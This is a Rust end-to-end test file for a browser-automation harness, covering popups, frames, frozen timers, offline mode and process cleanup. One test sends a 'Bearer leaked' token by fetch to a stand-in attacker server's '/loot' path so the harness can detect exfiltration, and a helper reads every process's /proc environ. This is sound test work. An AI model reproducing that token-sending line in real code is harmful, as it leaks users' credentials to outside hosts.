//! The harness itself: it must be able to see what the tests claim is not there.

use std::fs;
use std::net::TcpStream;
use std::path::Path;

use e2e::fixtures::app::App;
use e2e::fixtures::browser::Browser;
use e2e::fixtures::evil::Evil;
use e2e::fixtures::traffic::Traffic;
use e2e::fixtures::wait;
use serde_json::json;

const PAGE: &str = r#"<!doctype html><title>x</title>
<button data-testid="go" onclick="this.nextElementSibling.textContent = 'gone'">Go</button><p data-testid="where"></p>
<button data-testid="popup" onclick="open('/popup', '', 'popup')">Popup</button>
<iframe hidden srcdoc="<p data-testid=inside>inside</p>"></iframe>
<script>var ticks = 0; setInterval(() => { ticks += 1; }, 10);</script>"#;

async fn page() -> (Browser, App, Traffic) {
    let traffic = Traffic::default();
    let mut app = App::bind().await;
    app.serve_page(PAGE, &traffic);
    let browser = Browser::start().await;
    browser.open(&app.url("/")).await;
    (browser, app, traffic)
}

#[tokio::test]
async fn a_press_is_seen_on_the_page() {
    let (browser, _app, traffic) = page().await;
    assert_eq!(browser.peek_text("where").await.as_deref(), Some(""));
    browser.press("go").await;
    assert_eq!(browser.text("where").await, "gone");
    assert!(!traffic.seen_by(App::NAME).is_empty());
}

#[tokio::test]
async fn the_attacker_sees_a_leaked_header_and_referer() {
    let (browser, _app, traffic) = page().await;
    let evil = Evil::start(&traffic).await;
    let leak = "return fetch(arguments[0], { headers: { authorization: 'Bearer leaked' } }).then(r => r.status)";
    let status = browser.run(leak, vec![format!("{}/loot", evil.origin).into()]).await;
    assert_eq!(status, 200);
    let seen = traffic.seen_by(Evil::NAME);
    assert_eq!(seen.len(), 1);
    assert_eq!(seen[0].headers["authorization"], "Bearer leaked");
    assert!(seen[0].headers.contains_key("referer"));
}

#[tokio::test]
async fn a_popup_can_be_visited_and_closed() {
    let (browser, _app, _traffic) = page().await;
    let first = browser.window().await;
    browser.press("popup").await;
    browser.switch_to_new_window(std::slice::from_ref(&first)).await;
    browser.find("go").await;
    assert_eq!(browser.url().await.path(), "/popup");
    assert_eq!(browser.window_count().await, 2);

    browser.close_window().await;
    browser.switch_to_window(&first).await;
    browser.expect_window_count(1).await;
    assert_eq!(browser.url().await.path(), "/");
}

#[tokio::test]
async fn a_popup_that_nobody_pressed_for_is_blocked() {
    let (browser, _app, _traffic) = page().await;
    let opened = "addEventListener('load', () => { document.title = open('/popup') ? 'opened' : 'blocked'; })";
    let script =
        format!("document.open(); document.write(`<script>{opened}<\\/script>`); document.close()");
    browser.run(&script, Vec::new()).await;
    let title = "return document.title || null";
    let title = browser
        .eventually("the title", async || {
            browser.run(title, Vec::new()).await.as_str().map(str::to_owned)
        })
        .await;
    assert_eq!(title, "blocked");
    assert_eq!(browser.window_count().await, 1);
}

#[tokio::test]
async fn a_hidden_frame_can_be_entered_and_left() {
    let (browser, _app, _traffic) = page().await;
    assert!(browser.peek("inside").await.is_none());
    browser.switch_to_frame("iframe").await;
    let inside = "return document.querySelector('[data-testid=inside]').textContent";
    assert_eq!(browser.run(inside, Vec::new()).await, "inside");
    browser.leave_frame().await;
    assert!(browser.peek("go").await.is_some());
}

#[tokio::test]
async fn timers_stand_still_while_the_page_is_frozen() {
    let (browser, _app, _traffic) = page().await;
    browser.freeze().await;
    let overdue = "setTimeout(() => { document.title = 'awake'; }, 20); return ticks";
    let ticks = browser.run(overdue, Vec::new()).await;
    let began = now(&browser).await;
    browser
        .eventually("the clock to go on", async || {
            (now(&browser).await > began + 500.0).then_some(())
        })
        .await;
    let state = "return [ticks, document.title]";
    assert_eq!(browser.run(state, Vec::new()).await, json!([ticks, "x"]));

    browser.thaw().await;
    browser
        .eventually("the timers to go on", async || {
            let state = browser.run(state, Vec::new()).await;
            (state[0].as_u64() > ticks.as_u64() && state[1] == "awake").then_some(())
        })
        .await;
}

#[tokio::test]
async fn offline_nothing_is_reached() {
    let (browser, _app, traffic) = page().await;
    let fetch = "return fetch('/again').then((it) => it.status, () => navigator.onLine)";
    browser.set_offline(true).await;
    assert_eq!(browser.run(fetch, Vec::new()).await, false);
    assert!(traffic.matching(|it| it.path == "/again").is_empty());
    browser.set_offline(false).await;
    assert_eq!(browser.run(fetch, Vec::new()).await, 200);
}

async fn now(browser: &Browser) -> f64 {
    let now = browser.run("return performance.now()", Vec::new()).await;
    now.as_f64().expect("a number of milliseconds")
}

#[tokio::test]
async fn nothing_outlives_a_test_that_panics() {
    let (browser, _app, _traffic) = page().await;
    let (profile, driver) = (browser.profile().to_owned(), browser.driver_address());
    assert!(profile.is_dir() && TcpStream::connect(driver).is_ok());
    assert!(is_in_use(&profile) || cfg!(not(target_os = "linux")));
    let test = tokio::spawn(async move {
        let _browser = browser;
        panic!("a broken expectation");
    });
    assert!(test.await.is_err());
    let gone = async || {
        let left = profile.exists() || is_in_use(&profile) || TcpStream::connect(driver).is_ok();
        (!left).then_some(())
    };
    assert_eq!(wait::until(gone).await, Some(()));
}

/// Whether a process has the profile in its command line or its environment. Only Linux tells.
fn is_in_use(profile: &Path) -> bool {
    let profile = profile.display().to_string();
    fs::read_dir("/proc").into_iter().flatten().flatten().any(|process| {
        ["cmdline", "environ"].into_iter().any(|file| {
            let text = fs::read(process.path().join(file)).unwrap_or_default();
            String::from_utf8_lossy(&text).contains(&profile)
        })
    })
}
